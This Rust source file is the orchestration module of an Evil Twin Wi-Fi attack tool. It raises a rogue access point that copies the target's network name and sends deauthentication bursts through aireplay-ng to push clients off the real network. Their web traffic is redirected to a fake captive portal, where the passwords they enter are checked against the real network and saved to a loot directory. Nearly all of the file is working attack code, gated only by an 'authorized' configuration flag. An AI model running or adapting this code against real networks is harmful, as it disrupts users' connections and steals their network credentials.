//! Evil Twin attack orchestration.
//!
//! Drives the full attack lifecycle: dependency and conflict checks, rogue
//! AP and service startup, the adaptive deauth control loop, credential
//! capture through the portal, and guaranteed teardown on every exit path.

use std::fmt;
use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::str::FromStr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc, Mutex};
use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};

use crate::cancel::{self, CancelFlag};
use crate::cleanup::{
    check_conflicting_processes, kill_orphaned_processes, CleanupManager, InterfaceState, Teardown,
};
use crate::config::{AttackConfig, ConflictPolicy};
use crate::deauth::{AdaptiveDeauthManager, AireplayInjector, SignalInjector};
use crate::dnsmasq::DnsmasqDaemon;
use crate::error::{AttackError, Result};
use crate::hostapd::HostapdDaemon;
use crate::monitor::ClientMonitor;
use crate::portal::{CredentialHandler, PortalServer, SpoolPortal};
use crate::process::{kill_pid, run_cmd, tool_available};
use crate::session::{
    AttackSnapshot, ClientSnapshot, CredentialAttempt, JsonFileSession, SessionStore,
    SNAPSHOT_VERSION,
};
use crate::target::{sanitize_filename, Target, BROADCAST_MAC};
use crate::validator::{CredentialValidator, WpaSupplicantProbe};

const LOOP_INTERVAL: Duration = Duration::from_millis(500);
const REQUIRED_TOOLS: &[&str] = &[
    "hostapd",
    "dnsmasq",
    "wpa_supplicant",
    "aireplay-ng",
    "iw",
    "ip",
    "iptables",
];

/// Attack lifecycle states. Display strings are the snapshot phase strings.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackState {
    Initializing,
    CheckingDeps,
    SettingUp,
    StartingAp,
    StartingServices,
    StartingPortal,
    StartingDeauth,
    Running,
    Validating,
    Stopping,
    CleaningUp,
    Completed,
    Failed,
}

impl fmt::Display for AttackState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            Self::Initializing => "Initializing",
            Self::CheckingDeps => "CheckingDeps",
            Self::SettingUp => "SettingUp",
            Self::StartingAp => "StartingAp",
            Self::StartingServices => "StartingServices",
            Self::StartingPortal => "StartingPortal",
            Self::StartingDeauth => "StartingDeauth",
            Self::Running => "Running",
            Self::Validating => "Validating",
            Self::Stopping => "Stopping",
            Self::CleaningUp => "CleaningUp",
            Self::Completed => "Completed",
            Self::Failed => "Failed",
        };
        f.write_str(name)
    }
}

impl FromStr for AttackState {
    type Err = ();

    fn from_str(s: &str) -> std::result::Result<Self, Self::Err> {
        Ok(match s {
            "Initializing" => Self::Initializing,
            "CheckingDeps" => Self::CheckingDeps,
            "SettingUp" => Self::SettingUp,
            "StartingAp" => Self::StartingAp,
            "StartingServices" => Self::StartingServices,
            "StartingPortal" => Self::StartingPortal,
            "StartingDeauth" => Self::StartingDeauth,
            "Running" => Self::Running,
            "Validating" => Self::Validating,
            "Stopping" => Self::Stopping,
            "CleaningUp" => Self::CleaningUp,
            "Completed" => Self::Completed,
            "Failed" => Self::Failed,
            _ => return Err(()),
        })
    }
}

/// How the attack ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackOutcome {
    /// A credential validated against the real network
    Completed,
    /// Setup or a fatal runtime error ended the attack
    Failed,
    /// The cancel flag was raised
    Cancelled,
    /// The overall attack timeout expired without a capture
    TimedOut,
}

/// A validated credential.
#[derive(Debug, Clone)]
pub struct CapturedCredential {
    pub bssid: String,
    pub essid: String,
    pub key: String,
    pub client_mac: Option<String>,
    pub validation_time: Duration,
}

/// Result of `run()`. Always produced, including after cancellation or
/// failure, so partial statistics stay reachable.
#[derive(Debug)]
pub struct AttackReport {
    pub outcome: AttackOutcome,
    pub credential: Option<CapturedCredential>,
    pub clients_connected: u32,
    pub unique_clients: usize,
    pub credential_attempts: u32,
    pub successful_validations: u32,
    pub deauth_bursts: u64,
    pub duration: Duration,
    pub error: Option<String>,
    pub cleanup_errors: Vec<String>,
}

impl AttackReport {
    pub fn success(&self) -> bool {
        self.outcome == AttackOutcome::Completed
    }
}

/// Daemon collaborator started during setup and stopped during cleanup.
pub trait ServiceDaemon: Teardown + Send {
    fn start(&mut self) -> Result<()>;
    /// Log file the client monitor tails.
    fn log_path(&self) -> PathBuf;
    fn is_running(&mut self) -> bool;
    /// Generated files to remove once the daemon is down.
    fn temp_files(&self) -> Vec<PathBuf> {
        Vec::new()
    }
}

impl ServiceDaemon for HostapdDaemon {
    fn start(&mut self) -> Result<()> {
        HostapdDaemon::start(self)
    }

    fn log_path(&self) -> PathBuf {
        HostapdDaemon::log_path(self).to_path_buf()
    }

    fn is_running(&mut self) -> bool {
        HostapdDaemon::is_running(self)
    }

    fn temp_files(&self) -> Vec<PathBuf> {
        vec![self.config_path().to_path_buf()]
    }
}

impl ServiceDaemon for DnsmasqDaemon {
    fn start(&mut self) -> Result<()> {
        DnsmasqDaemon::start(self)
    }

    fn log_path(&self) -> PathBuf {
        DnsmasqDaemon::log_path(self).to_path_buf()
    }

    fn is_running(&mut self) -> bool {
        DnsmasqDaemon::is_running(self)
    }

    fn temp_files(&self) -> Vec<PathBuf> {
        vec![
            self.config_path().to_path_buf(),
            self.lease_path().to_path_buf(),
        ]
    }
}

/// Adapter so daemons drain through the cleanup manager's process registry.
struct DaemonTeardown(Box<dyn ServiceDaemon>);

impl Teardown for DaemonTeardown {
    fn stop(&mut self) -> Result<()> {
        self.0.stop()
    }
}

/// Client events forwarded from monitor callbacks to the control thread.
/// The adaptive deauth manager has no synchronization of its own, so only
/// the control loop may touch it; callbacks just enqueue.
enum ClientEvent {
    Connected(String),
    Disconnected(String),
}

/// The Evil Twin attack driver.
pub struct EvilTwinAttack {
    target: Target,
    config: AttackConfig,
    cancel: CancelFlag,

    state: AttackState,
    deauth_mgr: AdaptiveDeauthManager,

    injector: Box<dyn SignalInjector>,
    ap: Option<Box<dyn ServiceDaemon>>,
    net: Option<Box<dyn ServiceDaemon>>,
    portal: Option<Box<dyn PortalServer>>,
    session: Option<Box<dyn SessionStore>>,
    validator: Arc<CredentialValidator>,

    monitor: Option<Arc<ClientMonitor>>,
    cleanup: CleanupManager,
    cleanup_done: bool,

    captured: Arc<Mutex<Option<CapturedCredential>>>,
    attempts: Arc<Mutex<Vec<CredentialAttempt>>>,
    validating: Arc<AtomicBool>,
    events_rx: Option<mpsc::Receiver<ClientEvent>>,
    events_tx: mpsc::Sender<ClientEvent>,

    required_tools: Vec<String>,
    deauth_ready: bool,
    deauth_bursts: u64,

    start_instant: Option<Instant>,
    start_wall: Option<DateTime<Utc>>,
    setup_secs: Option<f64>,
    error_message: Option<String>,
    run_log: Option<PathBuf>,
}

impl EvilTwinAttack {
    /// Wire up an attack against `target` with the production collaborators:
    /// hostapd, dnsmasq, a spool-file portal, aireplay-ng, wpa_supplicant,
    /// and a JSON session file in the per-run loot directory.
    pub fn new(target: Target, config: &AttackConfig) -> Result<Self> {
        let run_dir = Self::create_run_dir(config, &target)?;
        let run_log = run_dir.join("attack.log");
        Self::write_run_log_header(&run_log, &target, config);

        let ap = HostapdDaemon::new(
            &config.ap_interface,
            &target.essid,
            target.channel,
            config.gateway_ip,
            &config.conf_dir,
        );
        let net = DnsmasqDaemon::new(
            &config.ap_interface,
            config.gateway_ip,
            config.dhcp_range_start,
            config.dhcp_range_end,
            &config.conf_dir,
        );
        let portal = SpoolPortal::new(config.conf_dir.join("portal_creds.jsonl"));
        let session = JsonFileSession::new(run_dir.join("session.json"));

        let probe_interface = config
            .deauth_interface
            .clone()
            .unwrap_or_else(|| config.ap_interface.clone());
        let probe = WpaSupplicantProbe::new(&probe_interface, &config.conf_dir);
        let validator = CredentialValidator::new(
            target.clone(),
            config.validator.clone(),
            Box::new(probe),
        );

        let mut attack = Self::with_collaborators(
            target,
            config,
            Box::new(AireplayInjector),
            Box::new(ap),
            Box::new(net),
            Box::new(portal),
            Box::new(session),
            Arc::new(validator),
        )
        .with_required_tools(REQUIRED_TOOLS.iter().map(|t| t.to_string()).collect());
        attack.run_log = Some(run_log);
        Ok(attack)
    }

    /// Assemble an attack from explicit collaborators. Production wiring
    /// goes through `new`; tests and resume flows inject their own.
    #[allow(clippy::too_many_arguments)]
    pub fn with_collaborators(
        target: Target,
        config: &AttackConfig,
        injector: Box<dyn SignalInjector>,
        ap: Box<dyn ServiceDaemon>,
        net: Box<dyn ServiceDaemon>,
        portal: Box<dyn PortalServer>,
        session: Box<dyn SessionStore>,
        validator: Arc<CredentialValidator>,
    ) -> Self {
        let (events_tx, events_rx) = mpsc::channel();
        Self {
            deauth_mgr: AdaptiveDeauthManager::new(&config.deauth),
            target,
            config: config.clone(),
            cancel: cancel::new_cancel_flag(),
            state: AttackState::Initializing,
            injector,
            ap: Some(ap),
            net: Some(net),
            portal: Some(portal),
            session: Some(session),
            validator,
            monitor: None,
            cleanup: CleanupManager::new(),
            cleanup_done: false,
            captured: Arc::new(Mutex::new(None)),
            attempts: Arc::new(Mutex::new(Vec::new())),
            validating: Arc::new(AtomicBool::new(false)),
            events_rx: Some(events_rx),
            events_tx,
            required_tools: Vec::new(),
            deauth_ready: false,
            deauth_bursts: 0,
            start_instant: None,
            start_wall: None,
            setup_secs: None,
            error_message: None,
            run_log: None,
        }
    }

    pub fn with_required_tools(mut self, tools: Vec<String>) -> Self {
        self.required_tools = tools;
        self
    }

    fn write_run_log_header(path: &PathBuf, target: &Target, config: &AttackConfig) {
        let header = format!(
            "Evil Twin attack log\n\
             Started: {}\n\
             Target SSID: {}\n\
             Target BSSID: {}\n\
             Channel: {}\n\
             AP interface: {}\n\
             Deauth interface: {}\n\
             ---\n",
            Utc::now().format("%Y-%m-%d %H:%M:%S"),
            target.essid,
            target.bssid,
            target.channel,
            config.ap_interface,
            config.deauth_interface.as_deref().unwrap_or("(none)"),
        );
        if let Err(err) = std::fs::write(path, header) {
            tracing::warn!(%err, "failed to create attack log");
        }
    }

    fn append_run_log_results(&self, report: &AttackReport) {
        let Some(path) = &self.run_log else { return };
        let results = format!(
            "---\n\
             Outcome: {:?}\n\
             Duration: {:.1}s\n\
             Clients connected: {}\n\
             Credential attempts: {}\n\
             Deauth bursts: {}\n\
             Captured password: {}\n",
            report.outcome,
            report.duration.as_secs_f64(),
            report.clients_connected,
            report.credential_attempts,
            report.deauth_bursts,
            report
                .credential
                .as_ref()
                .map(|c| c.key.as_str())
                .unwrap_or("(none)"),
        );
        let appended = std::fs::OpenOptions::new()
            .append(true)
            .open(path)
            .and_then(|mut file| std::io::Write::write_all(&mut file, results.as_bytes()));
        if let Err(err) = appended {
            tracing::warn!(%err, "failed to append attack log results");
        }
    }

    fn create_run_dir(config: &AttackConfig, target: &Target) -> Result<PathBuf> {
        let timestamp = Utc::now().format("%Y%m%d_%H%M%S").to_string();
        let dir = config
            .loot_dir
            .join(sanitize_filename(&target.essid))
            .join("evil_twin")
            .join(timestamp);
        std::fs::create_dir_all(&dir)
            .map_err(|e| AttackError::setup("loot-dir", e.to_string()))?;
        Ok(dir)
    }

    /// Shared flag that stops the attack from another thread (signal
    /// handler, UI). Checked at every suspension point.
    pub fn cancel_flag(&self) -> CancelFlag {
        Arc::clone(&self.cancel)
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    fn set_state(&mut self, state: AttackState) {
        if self.state != state {
            tracing::info!(from = %self.state, to = %state, "attack state");
            self.state = state;
        }
    }

    /// Execute the full attack. Always returns a report; cleanup runs on
    /// every exit path, exactly once.
    pub fn run(&mut self) -> AttackReport {
        self.start_instant = Some(Instant::now());
        self.start_wall = Some(Utc::now());

        let outcome = match self.execute() {
            Ok(outcome) => outcome,
            Err(err) if err.is_cancelled() => {
                self.set_state(AttackState::Stopping);
                AttackOutcome::Cancelled
            }
            Err(err) => {
                tracing::error!(%err, "attack failed");
                self.error_message = Some(err.to_string());
                self.set_state(AttackState::Failed);
                AttackOutcome::Failed
            }
        };

        let cleanup_errors = self.teardown();

        self.set_state(match outcome {
            AttackOutcome::Completed => AttackState::Completed,
            _ => AttackState::Failed,
        });

        let report = self.build_report(outcome, cleanup_errors);
        self.append_run_log_results(&report);
        report
    }

    fn execute(&mut self) -> Result<AttackOutcome> {
        if !self.config.authorized {
            return Err(AttackError::setup(
                "authorization",
                "refusing to start: the engagement has not been marked authorized",
            ));
        }

        tracing::info!(target = %self.target, "starting Evil Twin attack");

        self.set_state(AttackState::CheckingDeps);
        self.check_dependencies()?;
        self.check_conflicts()?;
        cancel::check_cancel(&self.cancel)?;

        self.set_state(AttackState::SettingUp);
        self.setup()?;
        cancel::check_cancel(&self.cancel)?;

        self.set_state(AttackState::StartingAp);
        self.start_ap()?;

        self.set_state(AttackState::StartingServices);
        self.start_services()?;
        self.start_monitor()?;

        self.set_state(AttackState::StartingPortal);
        self.start_portal()?;

        self.set_state(AttackState::StartingDeauth);
        self.prepare_deauth();

        self.setup_secs = self.start_instant.map(|at| at.elapsed().as_secs_f64());
        tracing::info!(setup_secs = ?self.setup_secs, "setup complete, entering run loop");

        self.set_state(AttackState::Running);
        self.run_loop()
    }

    fn check_dependencies(&self) -> Result<()> {
        for tool in &self.required_tools {
            if !tool_available(tool) {
                return Err(AttackError::DependencyMissing(tool.clone()));
            }
        }
        Ok(())
    }

    fn check_conflicts(&self) -> Result<()> {
        kill_orphaned_processes();

        let conflicting = check_conflicting_processes();
        if conflicting.is_empty() {
            return Ok(());
        }

        match self.config.conflict_policy {
            ConflictPolicy::Fail => {
                let list = conflicting
                    .iter()
                    .map(|(name, pid)| format!("{name} (pid {pid})"))
                    .collect::<Vec<_>>()
                    .join(", ");
                Err(AttackError::ConflictingProcess(list))
            }
            ConflictPolicy::Kill => {
                for (name, pid) in conflicting {
                    match kill_pid(pid) {
                        Ok(()) => tracing::info!(%name, pid, "killed conflicting process"),
                        Err(err) => {
                            tracing::warn!(%name, pid, %err, "failed to kill conflicting process")
                        }
                    }
                }
                std::thread::sleep(Duration::from_secs(2));
                Ok(())
            }
            ConflictPolicy::Ignore => {
                tracing::warn!(
                    count = conflicting.len(),
                    "continuing despite conflicting processes"
                );
                Ok(())
            }
        }
    }

    fn setup(&mut self) -> Result<()> {
        std::fs::create_dir_all(&self.config.conf_dir)
            .map_err(|e| AttackError::setup("conf-dir", e.to_string()))?;

        // The AP interface gets reshaped for hostapd; put it back afterward.
        self.cleanup.register_interface(
            &self.config.ap_interface.clone(),
            InterfaceState::default(),
        );

        if let Some(deauth_iface) = self.config.deauth_interface.clone() {
            self.cleanup
                .register_interface(&deauth_iface, InterfaceState::default());
        }
        Ok(())
    }

    fn start_ap(&mut self) -> Result<()> {
        let ap = self
            .ap
            .as_mut()
            .ok_or_else(|| AttackError::setup("hostapd", "AP daemon already consumed"))?;
        ap.start()?;
        Ok(())
    }

    fn start_services(&mut self) -> Result<()> {
        // Clients need forwarding and the portal redirect before any of
        // them associate.
        if let Err(err) = std::fs::write("/proc/sys/net/ipv4/ip_forward", "1\n") {
            tracing::warn!(%err, "failed to enable IP forwarding");
        } else {
            self.cleanup.register_ip_forwarding();
        }

        self.install_portal_redirect();

        let net = self
            .net
            .as_mut()
            .ok_or_else(|| AttackError::setup("dnsmasq", "net daemon already consumed"))?;
        net.start()?;
        Ok(())
    }

    fn install_portal_redirect(&mut self) {
        let iface = self.config.ap_interface.clone();
        let destination = format!("{}:80", self.config.gateway_ip);
        let rule = [
            "-i",
            iface.as_str(),
            "-p",
            "tcp",
            "--dport",
            "80",
            "-j",
            "DNAT",
            "--to-destination",
            destination.as_str(),
        ];

        let mut args = vec!["-t", "nat", "-A", "PREROUTING"];
        args.extend_from_slice(&rule);
        match run_cmd("iptables", &args) {
            Ok(_) => {
                self.cleanup.register_firewall_rule("nat", "PREROUTING", &rule);
                tracing::info!("captive portal redirect installed");
            }
            Err(err) => tracing::warn!(%err, "failed to install portal redirect"),
        }
    }

    fn start_monitor(&mut self) -> Result<()> {
        let (Some(ap), Some(net)) = (self.ap.as_ref(), self.net.as_ref()) else {
            return Err(AttackError::setup("monitor", "daemons already consumed"));
        };
        let ap_log = ap.log_path();
        let dhcp_log = net.log_path();

        let mut monitor = ClientMonitor::new(ap_log, dhcp_log);
        {
            let tx = self.events_tx.clone();
            monitor.on_client_connect(Arc::new(move |client| {
                let _ = tx.send(ClientEvent::Connected(client.mac.clone()));
            }));
        }
        {
            let tx = self.events_tx.clone();
            monitor.on_client_disconnect(Arc::new(move |client| {
                let _ = tx.send(ClientEvent::Disconnected(client.mac.clone()));
            }));
        }
        monitor.on_client_dhcp(Arc::new(|client| {
            tracing::info!(mac = %client.mac, ip = ?client.ip, "client obtained a lease");
        }));
        monitor.start();
        self.monitor = Some(Arc::new(monitor));
        Ok(())
    }

    fn start_portal(&mut self) -> Result<()> {
        let handler = self.credential_handler();
        let portal = self
            .portal
            .as_mut()
            .ok_or_else(|| AttackError::setup("portal", "portal already consumed"))?;
        portal.start(handler)?;
        Ok(())
    }

    /// Build the callback the portal invokes for every submission. Runs on
    /// the portal's thread; validation blocks that thread only.
    fn credential_handler(&self) -> CredentialHandler {
        let validator = Arc::clone(&self.validator);
        let monitor = self.monitor.clone();
        let captured = Arc::clone(&self.captured);
        let attempts = Arc::clone(&self.attempts);
        let validating = Arc::clone(&self.validating);
        let bssid = self.target.bssid.clone();
        let timeout = self.config.validator.timeout();

        Arc::new(move |ssid: &str, password: &str, client_ip: Option<Ipv4Addr>| {
            validating.store(true, Ordering::SeqCst);
            let report = validator.validate(ssid, password, timeout);
            validating.store(false, Ordering::SeqCst);

            let client_mac = client_ip
                .and_then(|ip| monitor.as_ref().and_then(|m| m.client_by_ip(ip)))
                .map(|c| c.mac);

            if let Some(monitor) = &monitor {
                let mac = client_mac.as_deref().unwrap_or("unknown");
                monitor.record_credential_attempt(mac, report.valid);
            }

            attempts.lock().unwrap().push(CredentialAttempt {
                mac: client_mac.clone().unwrap_or_else(|| "unknown".to_string()),
                password: password.to_string(),
                success: report.valid,
                timestamp: Utc::now(),
            });

            if report.valid {
                tracing::info!(ssid, client = ?client_mac, "valid credentials captured");
                let mut slot = captured.lock().unwrap();
                if slot.is_none() {
                    *slot = Some(CapturedCredential {
                        bssid: bssid.clone(),
                        essid: ssid.to_string(),
                        key: password.to_string(),
                        client_mac,
                        validation_time: report.elapsed,
                    });
                }
            } else if let Some(err) = &report.error {
                // Per-attempt validation errors are routine; anything else
                // (spawn failures, IO) deserves a louder line.
                if err.is_validation_error() {
                    tracing::info!(ssid, %err, "credential rejected");
                } else {
                    tracing::warn!(ssid, %err, "validation attempt errored");
                }
            }

            report.valid
        })
    }

    /// Put the deauth interface in monitor mode on the target channel.
    /// Failure disables deauth but never fails the attack.
    fn prepare_deauth(&mut self) {
        let Some(interface) = self.config.deauth_interface.clone() else {
            tracing::info!("no deauth interface configured, deauth disabled");
            return;
        };

        let result = (|| -> Result<()> {
            run_cmd("ip", &["link", "set", &interface, "down"])?;
            run_cmd("iw", &[&interface, "set", "monitor", "control"])?;
            run_cmd("ip", &["link", "set", &interface, "up"])?;
            run_cmd(
                "iw",
                &["dev", &interface, "set", "channel", &self.target.channel.to_string()],
            )?;
            Ok(())
        })();

        match result {
            Ok(()) => {
                self.deauth_ready = true;
                tracing::info!(%interface, "deauth interface ready");
            }
            Err(err) => {
                tracing::warn!(%interface, %err, "deauth interface setup failed, continuing without deauth");
            }
        }
    }

    fn run_loop(&mut self) -> Result<AttackOutcome> {
        let timeout = self.config.attack_timeout();
        let save_interval = self.config.session_save_interval();
        let start = self.start_instant.unwrap_or_else(Instant::now);
        let mut last_save = Instant::now();
        let mut last_status = Instant::now();

        let events_rx = match self.events_rx.take() {
            Some(rx) => rx,
            None => return Err(AttackError::external("attack already ran")),
        };

        loop {
            if cancel::is_cancelled(&self.cancel) {
                tracing::info!("cancellation requested, stopping attack");
                self.set_state(AttackState::Stopping);
                return Ok(AttackOutcome::Cancelled);
            }

            if self.captured.lock().unwrap().is_some() {
                tracing::info!("credential captured, ending attack");
                return Ok(AttackOutcome::Completed);
            }

            self.drain_client_events(&events_rx);
            self.handle_deauth();

            // Mirror an in-flight validation in the state machine.
            if self.validating.load(Ordering::SeqCst) {
                self.set_state(AttackState::Validating);
            } else if self.state == AttackState::Validating {
                self.set_state(AttackState::Running);
            }

            if last_status.elapsed() >= Duration::from_secs(10) {
                self.log_status();
                last_status = Instant::now();
            }

            if last_save.elapsed() >= save_interval {
                self.save_snapshot();
                last_save = Instant::now();
            }

            if let Some(limit) = timeout {
                if start.elapsed() >= limit {
                    tracing::info!("attack timeout reached");
                    self.set_state(AttackState::Stopping);
                    return Ok(AttackOutcome::TimedOut);
                }
            }

            if cancel::cancel_sleep(&self.cancel, LOOP_INTERVAL).is_err() {
                self.set_state(AttackState::Stopping);
                return Ok(AttackOutcome::Cancelled);
            }
        }
    }

    fn drain_client_events(&mut self, events_rx: &mpsc::Receiver<ClientEvent>) {
        while let Ok(event) = events_rx.try_recv() {
            match event {
                ClientEvent::Connected(mac) => {
                    tracing::info!(%mac, "client joined the rogue AP, pausing deauth");
                    self.deauth_mgr.record_client_connect();
                    self.deauth_mgr.pause();
                }
                ClientEvent::Disconnected(mac) => {
                    tracing::info!(%mac, "client left the rogue AP");
                    let none_left = self
                        .monitor
                        .as_ref()
                        .map(|m| !m.has_connected_clients())
                        .unwrap_or(true);
                    if none_left && self.deauth_mgr.is_paused() {
                        self.deauth_mgr.resume();
                    }
                }
            }
        }
    }

    fn handle_deauth(&mut self) {
        if !self.deauth_ready || !self.deauth_mgr.should_send_deauth() {
            return;
        }

        let interface = match &self.config.deauth_interface {
            Some(interface) => interface.clone(),
            None => return,
        };

        let known = self.known_client_macs();
        let count = self.deauth_mgr.recommended_deauth_count();

        if self.deauth_mgr.should_use_targeted_deauth(&known) {
            // Five targets per burst keeps each pass short.
            for mac in known.iter().take(5) {
                if let Err(err) = self.injector.send(
                    &self.target.bssid,
                    &self.target.essid,
                    mac,
                    count,
                    &interface,
                ) {
                    tracing::warn!(%mac, %err, "targeted deauth failed");
                }
            }
        } else if let Err(err) = self.injector.send(
            &self.target.bssid,
            &self.target.essid,
            BROADCAST_MAC,
            count,
            &interface,
        ) {
            tracing::warn!(%err, "broadcast deauth failed");
        }

        self.deauth_mgr.record_deauth_sent();
        self.deauth_bursts += 1;

        // A burst with nobody on the rogue AP counts as a no-activity poll.
        let idle = self
            .monitor
            .as_ref()
            .map(|m| !m.has_connected_clients())
            .unwrap_or(true);
        if idle {
            self.deauth_mgr.record_no_activity();
        }
    }

    /// Station MACs eligible for targeted deauth: recon clients plus rogue
    /// AP clients that have dropped back to the legitimate network.
    fn known_client_macs(&self) -> Vec<String> {
        let mut macs = self.target.known_clients.clone();
        if let Some(monitor) = &self.monitor {
            for client in monitor.all_clients() {
                if !client.is_connected() && !macs.contains(&client.mac) {
                    macs.push(client.mac);
                }
            }
        }
        macs
    }

    fn log_status(&self) {
        let Some(monitor) = &self.monitor else { return };
        let stats = monitor.statistics();
        let validation = self.validator.statistics();
        tracing::info!(
            state = %self.state,
            connected = stats.currently_connected,
            unique = stats.unique_client_count(),
            attempts = stats.total_credential_attempts,
            success_rate = stats.success_rate(),
            validation_backoff = validation.backoff_multiplier,
            validation_locked_out = validation.is_locked_out,
            deauth_interval_secs = self.deauth_mgr.current_interval().as_secs_f64(),
            deauth_paused = self.deauth_mgr.is_paused(),
            "attack status"
        );
    }

    fn build_snapshot(&self) -> AttackSnapshot {
        let clients = self
            .monitor
            .as_ref()
            .map(|monitor| {
                monitor
                    .all_clients()
                    .into_iter()
                    .map(|c| ClientSnapshot {
                        mac: c.mac,
                        ip: c.ip.map(|ip| ip.to_string()),
                        hostname: c.hostname,
                        connect_time: c.connect_time,
                        disconnect_time: c.disconnect_time,
                        credential_submitted: c.credential_submitted,
                        credential_valid: c.credential_valid,
                    })
                    .collect()
            })
            .unwrap_or_default();

        let stats = self.monitor.as_ref().map(|m| m.statistics());
        let captured = self.captured.lock().unwrap();

        AttackSnapshot {
            version: SNAPSHOT_VERSION,
            interface_ap: self.config.ap_interface.clone(),
            interface_deauth: self.config.deauth_interface.clone(),
            portal_template: self.config.portal_template.clone(),
            deauth_interval_secs: self.deauth_mgr.current_interval().as_secs_f64(),
            attack_phase: self.state.to_string(),
            start_time: self.start_wall,
            setup_time_secs: self.setup_secs,
            clients,
            credential_attempts: self.attempts.lock().unwrap().clone(),
            total_clients_connected: stats
                .as_ref()
                .map(|s| s.total_clients_connected)
                .unwrap_or(0),
            total_credential_attempts: stats
                .as_ref()
                .map(|s| s.total_credential_attempts)
                .unwrap_or(0),
            successful_validations: stats
                .as_ref()
                .map(|s| s.successful_attempts)
                .unwrap_or(0),
            captured_password: captured.as_ref().map(|c| c.key.clone()),
            validation_time_secs: captured
                .as_ref()
                .map(|c| c.validation_time.as_secs_f64())
                .unwrap_or(0.0),
        }
    }

    fn save_snapshot(&self) {
        let Some(session) = &self.session else { return };
        if let Err(err) = session.save(&self.build_snapshot()) {
            tracing::warn!(%err, "failed to save session snapshot");
        }
    }

    /// Restore client and attempt bookkeeping from a saved snapshot before
    /// re-running an interrupted attack.
    pub fn restore_from_snapshot(&mut self, snapshot: &AttackSnapshot) -> Result<()> {
        snapshot.validate()?;
        if !snapshot.can_resume() {
            return Err(AttackError::external(
                "snapshot is from a finished attack and cannot be resumed",
            ));
        }

        *self.attempts.lock().unwrap() = snapshot.credential_attempts.clone();
        tracing::info!(
            clients = snapshot.clients.len(),
            attempts = snapshot.credential_attempts.len(),
            "restored attack state from snapshot"
        );
        Ok(())
    }

    /// Stop everything and drain the cleanup registries. Idempotent;
    /// errors are aggregated, never raised.
    fn teardown(&mut self) -> Vec<String> {
        if self.cleanup_done {
            return self.cleanup.errors().to_vec();
        }
        self.cleanup_done = true;
        self.set_state(AttackState::CleaningUp);

        // Final snapshot while the components still hold their state.
        self.save_snapshot();

        let mut errors = Vec::new();

        if let Some(monitor) = &self.monitor {
            monitor.stop();
        }

        if let Some(mut portal) = self.portal.take() {
            if let Err(err) = portal.stop() {
                tracing::error!(%err, "failed to stop portal");
                errors.push(format!("portal: {err}"));
            }
        }

        // Services stop before the interfaces they depend on: DHCP/DNS
        // first, then the AP, then the registries restore the rest.
        if let Some(net) = self.net.take() {
            for path in net.temp_files() {
                self.cleanup.register_temp_file(path);
            }
            self.cleanup.register_process("dnsmasq", Box::new(DaemonTeardown(net)));
        }
        if let Some(ap) = self.ap.take() {
            for path in ap.temp_files() {
                self.cleanup.register_temp_file(path);
            }
            self.cleanup.register_process("hostapd", Box::new(DaemonTeardown(ap)));
        }

        errors.extend(self.cleanup.cleanup_all());
        if !errors.is_empty() {
            let summary = AttackError::CleanupPartialFailure {
                errors: errors.clone(),
            };
            tracing::warn!(%summary, "cleanup finished with errors");
        }
        errors
    }

    fn build_report(&self, outcome: AttackOutcome, cleanup_errors: Vec<String>) -> AttackReport {
        let stats = self.monitor.as_ref().map(|m| m.statistics());
        let duration = self
            .start_instant
            .map(|at| at.elapsed())
            .unwrap_or_default();

        let report = AttackReport {
            outcome,
            credential: self.captured.lock().unwrap().clone(),
            clients_connected: stats
                .as_ref()
                .map(|s| s.total_clients_connected)
                .unwrap_or(0),
            unique_clients: stats.as_ref().map(|s| s.unique_client_count()).unwrap_or(0),
            credential_attempts: self.attempts.lock().unwrap().len() as u32,
            successful_validations: stats
                .as_ref()
                .map(|s| s.successful_attempts)
                .unwrap_or(0),
            deauth_bursts: self.deauth_bursts,
            duration,
            error: self.error_message.clone(),
            cleanup_errors,
        };

        tracing::info!(
            outcome = ?report.outcome,
            clients = report.clients_connected,
            attempts = report.credential_attempts,
            duration_secs = report.duration.as_secs_f64(),
            time_to_first_client_secs = ?stats
                .as_ref()
                .and_then(|s| s.time_to_first_client())
                .map(|d| d.as_secs_f64()),
            time_to_success_secs = ?stats
                .as_ref()
                .and_then(|s| s.time_to_success())
                .map(|d| d.as_secs_f64()),
            "attack finished"
        );
        report
    }
}

impl Drop for EvilTwinAttack {
    fn drop(&mut self) {
        if !self.cleanup_done {
            self.teardown();
        }
    }
}
